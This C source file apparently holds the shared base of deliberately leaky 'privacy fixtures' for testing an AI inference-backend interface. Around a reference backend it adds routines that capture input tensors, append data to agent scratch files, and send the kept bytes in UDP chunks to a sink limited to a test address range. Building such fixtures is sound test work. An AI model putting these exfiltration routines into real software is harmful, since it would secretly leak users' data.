/* fixture_base.c — the backend table shared by the privacy fixtures (see fixture.h): every call goes
 * to the reference backend (compiled into the fixture), so each fixture runs the real model of any
 * workload and its outputs are the reference's; the fixture's misbehaviour is added around it. */
#include <arpa/inet.h>
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "aitc_backend.h"
#include "aitc_reference.h"
#include "fixture.h"

static const aitc_backend *ref(void) { return aitc_reference_backend(); }

static int create(const aitc_backend_options *o, aitc_backend_ctx **out, char *err, size_t n)
{
    return ref()->create(o, out, err, n);
}

static void destroy(aitc_backend_ctx *c) { ref()->destroy(c); }

static int supports(aitc_backend_ctx *c, const uint8_t *m, size_t len, char *err, size_t n)
{
    return ref()->supports(c, m, len, err, n);
}

static int load(aitc_backend_ctx *c, const uint8_t *m, size_t len, aitc_model **out, char *err, size_t n)
{
    return ref()->load(c, m, len, out, err, n);
}

static void unload(aitc_model *m)
{
    fixture_unload();
    ref()->unload(m);
}

static int io_count(aitc_model *m, int is_input) { return ref()->io_count(m, is_input); }

static int io_info(aitc_model *m, int is_input, int index, aitc_tensor_info *o) { return ref()->io_info(m, is_input, index, o); }

static int run(aitc_model *m, const aitc_tensor *in, int nin, aitc_tensor *out, int nout, char *err, size_t n)
{
    int rc = ref()->run(m, in, nin, out, nout, err, n);
    if (rc != AITC_OK) return rc;
    for (int i = 0; i < nin; i++) fixture_leak(in[i].data, in[i].bytes);
    for (int i = 0; i < nout; i++) {
        if (out[i].info.dtype == AITC_DTYPE_FLOAT32) fixture_outputs((float *)out[i].data, out[i].bytes / sizeof(float));
    }
    return AITC_OK;
}

static const char *accel(aitc_model *m) { return ref()->accelerator(m); }

int fixture_sink(struct sockaddr_in *out)
{
    const char *sink = getenv("AITC_FIXTURE_SINK");
    if (sink == NULL) return -1;
    const char *colon = strrchr(sink, ':');
    if (colon == NULL || colon == sink || (size_t)(colon - sink) >= 32) return -1;
    char host[32];
    memcpy(host, sink, (size_t)(colon - sink));
    host[colon - sink] = '\0';
    long port = strtol(colon + 1, NULL, 10);
    if (port <= 0 || port > 65535) return -1;
    memset(out, 0, sizeof *out);
    out->sin_family = AF_INET;
    out->sin_port = htons((uint16_t)port);
    if (inet_pton(AF_INET, host, &out->sin_addr) != 1) return -1;
    uint32_t address = ntohl(out->sin_addr.s_addr);
    if ((address >> 16) != ((10u << 8) | 250u)) return -1; /* only the test's namespaces */
    return 0;
}

int fixture_scratch_file(const char *name, char *path, size_t size)
{
    const char *parent = getenv("AITC_FIXTURE_SCRATCH");
    if (parent == NULL || size == 0) return -1;
    DIR *dir = opendir(parent);
    if (dir == NULL) return -1;
    int found = -1;
    struct dirent *entry;
    while ((entry = readdir(dir)) != NULL) {
        if (strncmp(entry->d_name, "aitc-agent-", 11) == 0) {
            int n = snprintf(path, size, "%s/%s/%s", parent, entry->d_name, name);
            found = (n < 0 || (size_t)n >= size) ? -1 : 0;
            break;
        }
    }
    closedir(dir);
    return found;
}

void fixture_append(const char *path, const unsigned char *data, size_t bytes)
{
    FILE *f = fopen(path, "ab");
    if (f == NULL) return;
    (void)fwrite(data, 1, bytes, f);
    fclose(f);
}

static unsigned char kept[1 << 20];
static size_t kept_bytes;

void fixture_keep(const unsigned char *data, size_t bytes)
{
    if (bytes <= sizeof kept - kept_bytes) {
        memcpy(kept + kept_bytes, data, bytes);
        kept_bytes += bytes;
    }
}

size_t fixture_kept(void) { return kept_bytes; }

void fixture_send_kept(const struct sockaddr_in *sink)
{
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    for (size_t at = 0; fd >= 0 && at < kept_bytes; at += 1024) {
        size_t chunk = kept_bytes - at < 1024 ? kept_bytes - at : 1024;
        (void)sendto(fd, kept + at, chunk, 0, (const struct sockaddr *)sink, sizeof *sink);
        struct timespec pause = {0, 1000000};
        (void)nanosleep(&pause, NULL);
    }
    if (fd >= 0) close(fd);
}

void fixture_forget(void) { kept_bytes = 0; }

static const aitc_backend table = {AITC_BACKEND_ABI_VERSION, "privacy-fixture", "0.1.0", create, destroy, supports,
                                   load, unload, io_count, io_info, run, accel};

const aitc_backend *aitc_backend_entry(void) { return &table; }
